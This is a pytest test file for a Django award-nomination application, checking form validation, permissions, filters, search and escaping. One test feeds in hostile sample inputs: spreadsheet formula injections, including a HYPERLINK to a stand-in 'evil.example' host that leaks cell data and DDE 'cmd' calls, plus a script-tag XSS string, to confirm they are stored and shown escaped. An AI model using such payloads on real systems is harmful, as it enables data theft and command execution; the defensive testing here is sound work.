"""Pages: create/edit with bad input, list filters and counts, queue, evidence panel, queries."""

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from awards.models import Nomination, Status
from ideas.models import Status as IdeaStatus
from tests.awards.factories import NominationFactory, award
from tests.factories import IdeaFactory, UserFactory, phase


def form_data(org, **overrides):
    data = {
        "phase": phase().pk,
        "award_type": award("city_certificate").pk,
        "nominee": org.author.pk,
        "unit": "",
        "achievements": "Chủ trì số hoá 100% hồ sơ một cửa.",
    }
    data.update(overrides)
    return data


def test_head_creates_a_nomination_and_lands_on_it(client, org, recognised_idea):
    client.force_login(org.head)
    response = client.post(reverse("awards:nomination-create"), form_data(org, ideas=[recognised_idea.pk]))
    nomination = Nomination.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("awards:nomination-detail", args=[nomination.pk])
    assert nomination.status == Status.DRAFT
    assert nomination.proposing_unit == org.unit
    assert list(nomination.ideas.all()) == [recognised_idea]
    page = client.get(response["Location"])
    assert "Gửi duyệt" in page.content.decode()  # the head may submit; the page is Vietnamese


def test_collective_nomination_through_the_form(client, org):
    client.force_login(org.head)
    response = client.post(reverse("awards:nomination-create"), form_data(org, nominee="", unit=org.sub.pk))
    assert response.status_code == 302
    assert Nomination.objects.get().nominee_unit == org.sub


@pytest.mark.parametrize(
    "overrides",
    [
        {"nominee": "OUTSIDER"},  # a person of another unit, forged id
        {"nominee": "", "unit": "OTHER"},  # another unit as collective
        {"nominee": "999999"},
        {"nominee": "abc"},
        {"ideas": ["FOREIGN_IDEA"]},  # an idea of another unit
        {"ideas": ["DRAFT_IDEA"]},  # an idea not yet approved
        {"nominee": "", "unit": ""},
        {"unit": "SUB"},  # both a person and a collective
        {"achievements": "x" * 20001},
        {"achievements": "   "},
        {"phase": "0"},
        {"award_type": "nope"},
    ],
)
def test_bad_input_on_create_is_a_form_error_and_nothing_is_saved(client, org, overrides):
    foreign = IdeaFactory(author=org.outsider, status=IdeaStatus.RECOGNISED)
    draft = IdeaFactory(author=org.author, status=IdeaStatus.DRAFT)
    replace = {
        "OUTSIDER": org.outsider.pk,
        "OTHER": org.other.pk,
        "SUB": org.sub.pk,
        "FOREIGN_IDEA": foreign.pk,
        "DRAFT_IDEA": draft.pk,
    }
    data = form_data(org)
    for key, value in overrides.items():
        data[key] = (
            [replace.get(v, v) for v in value] if isinstance(value, list) else replace.get(value, value)
        )
    client.force_login(org.head)
    response = client.post(reverse("awards:nomination-create"), data)
    assert response.status_code == 200
    assert response.context["form"].errors
    assert 'id="error-summary"' in response.content.decode()
    assert not Nomination.objects.exists()


def test_duplicate_open_nomination_gives_a_clear_message(client, org):
    client.force_login(org.head)
    client.post(reverse("awards:nomination-create"), form_data(org))
    client.force_login(org.deputy)
    response = client.post(reverse("awards:nomination-create"), form_data(org, achievements="Lần hai"))
    assert response.status_code == 200
    assert "đã có một đề nghị" in response.content.decode()
    assert Nomination.objects.count() == 1


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<script>alert('x')</script><b>đậm</b>",
        "Đ" * 20000,
    ],
)
def test_achievements_are_kept_verbatim_and_shown_escaped(client, org, text):
    client.force_login(org.head)
    response = client.post(reverse("awards:nomination-create"), form_data(org, achievements=text))
    assert response.status_code == 302
    nomination = Nomination.objects.get()
    assert nomination.achievements == text  # nothing lost
    html = client.get(response["Location"]).content.decode()
    assert "<script>alert" not in html
    if "<script>" in text:
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html


def test_nul_byte_in_achievements_is_a_form_error(client, org):
    client.force_login(org.head)
    response = client.post(reverse("awards:nomination-create"), form_data(org, achievements="a\x00b"))
    assert response.status_code == 200
    assert not Nomination.objects.exists()


def test_edit_keeps_server_fields_and_writes_an_event(client, org):
    nomination = NominationFactory(nominee=org.author, proposing_unit=org.unit)
    client.force_login(org.deputy)
    data = form_data(org, achievements="Đã bổ sung", status="conferred", proposing_unit=org.other.pk)
    response = client.post(reverse("awards:nomination-edit", args=[nomination.pk]), data)
    assert response.status_code == 302
    nomination.refresh_from_db()
    assert nomination.achievements == "Đã bổ sung"
    assert nomination.status == Status.DRAFT  # mass assignment ignored
    assert nomination.proposing_unit == org.unit
    assert nomination.events.filter(action="edit").exists()


def test_confer_with_a_future_date_shows_the_error_and_keeps_the_input(client, org):
    """Post/Redirect/Get: the refused decision leads back to the nomination's own page, which shows
    the form again; reloading it (or switching the language) is a plain GET of that page."""
    nomination = NominationFactory(nominee=org.author, proposing_unit=org.unit, status=Status.APPROVED)
    client.force_login(org.committee)
    future = (timezone.localdate() + datetime.timedelta(days=3)).isoformat()
    response = client.post(
        reverse("awards:nomination-action", args=[nomination.pk, "confer"]),
        {"decision_number": "12/QĐ-UBND", "decision_date": future},
    )
    assert response.status_code == 302 and response["Location"] == nomination.get_absolute_url()
    response = client.get(response["Location"])
    assert response.status_code == 200
    html = response.content.decode()
    with translation.override("vi"):
        expected = translation.gettext("The decision date cannot be in the future.")
    assert expected in html and expected != "The decision date cannot be in the future."
    assert 'value="12/QĐ-UBND"' in html
    assert 'aria-labelledby="dlg-confer-title" aria-hidden="true" data-open-on-load' in html
    nomination.refresh_from_db()
    assert nomination.status == Status.APPROVED
    again = client.get(nomination.get_absolute_url()).content.decode()  # shown once: a reload is clean
    assert expected not in again and "data-open-on-load" not in again


def test_confer_with_empty_fields_then_reload_and_switch_language_never_405(client, org):
    nomination = NominationFactory(nominee=org.author, proposing_unit=org.unit, status=Status.APPROVED)
    client.force_login(org.committee)
    action = reverse("awards:nomination-action", args=[nomination.pk, "confer"])
    response = client.post(action, {"decision_number": "", "decision_date": ""}, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain == [(nomination.get_absolute_url(), 302)]
    assert "Trường này là bắt buộc" in response.content.decode()
    switched = client.post(
        reverse("set_language"), {"language": "en", "next": response.request["PATH_INFO"]}, follow=True
    )
    assert switched.status_code == 200
    assert client.get(action).status_code == 302  # an action URL opened again leads to the nomination


@pytest.mark.parametrize("bad_date", ["31/02/2026", "not-a-date", "2026-13-01", "9" * 50])
def test_confer_with_an_invalid_date_is_a_form_error_not_500(client, org, bad_date):
    nomination = NominationFactory(nominee=org.author, proposing_unit=org.unit, status=Status.APPROVED)
    client.force_login(org.committee)
    response = client.post(
        reverse("awards:nomination-action", args=[nomination.pk, "confer"]),
        {"decision_number": "12", "decision_date": bad_date},
        follow=True,
    )
    assert response.status_code == 200
    assert response.context["failed_action"] == "confer"
    assert response.context["dialogs"][-1].form.errors["decision_date"]
    nomination.refresh_from_db()
    assert nomination.status == Status.APPROVED


def test_stale_action_redirects_with_a_message(client, org):
    nomination = NominationFactory(nominee=org.author, proposing_unit=org.unit, status=Status.REJECTED)
    client.force_login(org.committee)
    response = client.post(reverse("awards:nomination-action", args=[nomination.pk, "approve"]), follow=True)
    assert "không thực hiện" in response.content.decode()
    nomination.refresh_from_db()
    assert nomination.status == Status.REJECTED


def test_list_filters_search_and_counts(client, org):
    a = NominationFactory(nominee=org.author, proposing_unit=org.unit, status=Status.SUBMITTED)
    b = NominationFactory(nominee_unit=org.sub, proposing_unit=org.unit, award_type=award("unit_certificate"))
    c = NominationFactory(nominee=org.outsider, proposing_unit=org.other, phase=phase("2023-2025"))
    client.force_login(org.committee)
    url = reverse("awards:nomination-list")

    def pks(**params):
        return {n.pk for n in client.get(url, params).context["nominations"]}

    assert pks() == {a.pk, b.pk, c.pk}
    assert pks(phase="2023-2025") == {c.pk}
    assert pks(award="unit_certificate") == {b.pk}
    assert pks(status="submitted") == {a.pk}
    assert pks(unit=org.unit.pk) == {a.pk, b.pk}
    assert pks(unit=org.sub.pk) == {a.pk, b.pk}  # nominees of the sub-unit
    assert pks(q=org.author.full_name) == {a.pk}
    # Unknown values are ignored with a message, never a 500.
    response = client.get(url, {"status": "bogus", "phase": "1999", "unit": "x"})
    assert response.status_code == 200
    assert {n.pk for n in response.context["nominations"]} == {a.pk, b.pk, c.pk}
    response = client.get(url, {"phase": "2026-2030"})
    rows = {row["award"].code: row for row in response.context["count_rows"]}
    assert rows["city_certificate"]["total"] == 1
    assert rows["unit_certificate"]["total"] == 1
    assert rows["labor_order_3"]["total"] == 0


def test_list_queries_do_not_grow_with_rows(client, org):
    client.force_login(org.committee)
    url = reverse("awards:nomination-list")
    NominationFactory(nominee=org.author, proposing_unit=org.unit)
    client.get(url)  # warm caches
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for _ in range(15):
        person = UserFactory(unit=org.sub)
        NominationFactory(nominee=person, proposing_unit=org.unit)
        NominationFactory(nominee=None, nominee_unit=UserFactory().unit, proposing_unit=org.unit)
    with CaptureQueriesContext(connection) as many:
        client.get(url)
    assert len(many) == len(few)


def test_queue_holds_what_waits(client, org):
    waiting = NominationFactory(nominee=org.author, proposing_unit=org.unit, status=Status.SUBMITTED)
    unit_level = NominationFactory(
        nominee=org.colleague,
        proposing_unit=org.unit,
        status=Status.SUBMITTED,
        award_type=award("unit_certificate"),
    )
    NominationFactory(nominee=org.co_author, proposing_unit=org.unit, status=Status.REJECTED)
    client.force_login(org.committee)
    assert [n.pk for n in client.get(reverse("awards:nomination-queue")).context["nominations"]] == [
        waiting.pk
    ]
    client.force_login(org.head)
    assert [n.pk for n in client.get(reverse("awards:nomination-queue")).context["nominations"]] == [
        unit_level.pk
    ]


def test_evidence_panel_and_warnings(client, org, recognised_idea):
    earlier = NominationFactory(
        nominee=org.author,
        proposing_unit=org.unit,
        award_type=award("city_certificate"),
        status=Status.CONFERRED,
        decision_number="11/QĐ-UBND",
        decision_date=datetime.date(2025, 5, 1),
        phase=phase("2023-2025"),
        ideas=[recognised_idea],
    )
    nomination = NominationFactory(
        nominee=org.author,
        proposing_unit=org.unit,
        award_type=award("pm_certificate"),
        ideas=[recognised_idea],
    )
    client.force_login(org.committee)
    response = client.get(reverse("awards:nomination-detail", args=[nomination.pk]))
    evidence = response.context["evidence"]
    assert evidence.ideas == [recognised_idea]
    assert evidence.earlier == [earlier]
    html = response.content.decode()
    assert "123/QĐ-UBND" in html and "11/QĐ-UBND" in html
    # pm_certificate after a city certificate: no "missing city certificate" warning, but the reused idea.
    assert len(evidence.warnings) == 1
    assert recognised_idea.title in evidence.warnings[0]


def test_evidence_warns_when_thin(org):
    from awards.selectors import nomination_evidence

    thin_pm = NominationFactory(
        nominee=org.author, proposing_unit=org.unit, award_type=award("pm_certificate")
    )
    warnings = nomination_evidence(thin_pm).warnings
    assert len(warnings) == 2  # no recognised idea; no earlier city certificate
    order = NominationFactory(
        nominee=org.colleague, proposing_unit=org.unit, award_type=award("labor_order_3")
    )
    assert len(nomination_evidence(order).warnings) == 2  # no recognised idea; no earlier PM certificate
    unit_level = NominationFactory(
        nominee=org.co_author, proposing_unit=org.unit, award_type=award("unit_certificate")
    )
    assert len(nomination_evidence(unit_level).warnings) == 1


def test_dashboard_panels_per_role(client, org):
    mine = NominationFactory(
        nominee=org.author,
        proposing_unit=org.unit,
        status=Status.CONFERRED,
        decision_number="5/QĐ",
        decision_date=datetime.date(2026, 2, 2),
    )
    NominationFactory(nominee=org.colleague, proposing_unit=org.unit, status=Status.SUBMITTED)
    client.force_login(org.author)
    html = client.get("/").content.decode()
    assert "panel-my-awards" in html and "5/QĐ" in html
    assert reverse("awards:nomination-list") in html  # nav "Nominations": they have one
    client.force_login(org.head)
    html = client.get("/").content.decode()
    assert "panel-unit-nominations" in html
    client.force_login(org.committee)
    html = client.get("/").content.decode()
    assert "panel-nominations-waiting" in html and reverse("awards:export") in html
    client.force_login(org.outsider)
    html = client.get("/").content.decode()
    assert "panel-my-awards" not in html and reverse("awards:nomination-list") not in html
    assert mine.pk


def test_decisions_work_without_javascript(client, org):
    """The dialogs need Bootstrap's JavaScript; a <noscript> copy of each decision form does not."""
    nomination = NominationFactory(nominee=org.author, proposing_unit=org.unit, status=Status.SUBMITTED)
    client.force_login(org.committee)
    html = client.get(reverse("awards:nomination-detail", args=[nomination.pk])).content.decode()
    noscript = html[html.index("<noscript>") : html.index("</noscript>")]
    for action in ("return", "reject"):
        assert f'action="{reverse("awards:nomination-action", args=[nomination.pk, action])}"' in noscript
        assert f'id="dlg-{action}"' in html
    assert "approve" in html and "dlg-confer" not in html  # confer is not possible yet


def test_reusing_a_recognised_idea_warns_but_saves(client, org, recognised_idea):
    NominationFactory(
        nominee=org.author,
        proposing_unit=org.unit,
        award_type=award("unit_certificate"),
        status=Status.CONFERRED,
        decision_number="3/GK",
        decision_date=datetime.date(2026, 4, 1),
        ideas=[recognised_idea],
    )
    client.force_login(org.head)
    response = client.post(
        reverse("awards:nomination-create"), form_data(org, ideas=[recognised_idea.pk]), follow=True
    )
    assert Nomination.objects.filter(award_type__code="city_certificate").exists()
    warnings = [str(m) for m in response.context["messages"] if m.level_tag == "warning"]
    assert len(warnings) == 1 and recognised_idea.title in warnings[0]


def test_search_ignores_diacritics_and_case(client, org):
    person = UserFactory(unit=org.sub, full_name="Đặng Ngọc Lan")
    lan = NominationFactory(nominee=person, proposing_unit=org.unit)
    collective = NominationFactory(nominee_unit=org.sub, proposing_unit=org.unit)
    NominationFactory(nominee=org.outsider, proposing_unit=org.other)
    client.force_login(org.committee)
    url = reverse("awards:nomination-list")

    def pks(q):
        return {n.pk for n in client.get(url, {"q": q}).context["nominations"]}

    assert pks("dang ngoc lan") == {lan.pk}
    assert pks("ĐẶNG  Ngọc") == {lan.pk}
    assert pks("phong thu nghiem") == {lan.pk, collective.pk}  # the person's unit, the collective
    assert pks("khong co ai") == set()


def test_create_records_the_folded_search_text(org):
    from awards import services

    nomination = services.nomination_create(
        by=org.head, phase=phase(), award_type=award("city_certificate"), nominee=org.author, achievements="x"
    )
    assert "nguyen van" in nomination.search_text
    assert "so thu nghiem" in nomination.search_text  # the proposing unit


def test_a_head_cannot_nominate_themselves(client, org):
    client.force_login(org.head)
    response = client.post(
        "/awards/nominations/new/",
        {
            "phase": phase().pk,
            "award_type": award("unit_certificate").pk,
            "nominee": org.head.pk,
            "achievements": "Tự đề nghị",
        },
    )
    assert response.status_code == 200
    assert "nominee" in response.context["form"].errors
    assert not Nomination.objects.exists()


def test_staff_see_neither_the_queue_nor_the_counts(client, org):
    client.force_login(org.author)
    html = client.get("/awards/nominations/").content.decode()
    assert "/awards/nominations/queue/" not in html
    assert 'data-testid="counts"' not in html
    client.force_login(org.head)
    html = client.get("/awards/nominations/").content.decode()
    assert "/awards/nominations/queue/" in html
    assert 'data-testid="counts"' in html


def test_search_needs_every_word_in_any_order(client, org):
    person = UserFactory(unit=org.sub, full_name="Đặng Ngọc Lan")
    lan = NominationFactory(nominee=person, proposing_unit=org.unit)
    NominationFactory(nominee=UserFactory(unit=org.sub, full_name="Đặng Văn Hùng"), proposing_unit=org.unit)
    client.force_login(org.committee)

    def pks(q):
        return {n.pk for n in client.get(reverse("awards:nomination-list"), {"q": q}).context["nominations"]}

    assert pks("lan dang") == {lan.pk}  # as for ideas: every folded word, wherever it stands
    assert pks("lan hung") == set()
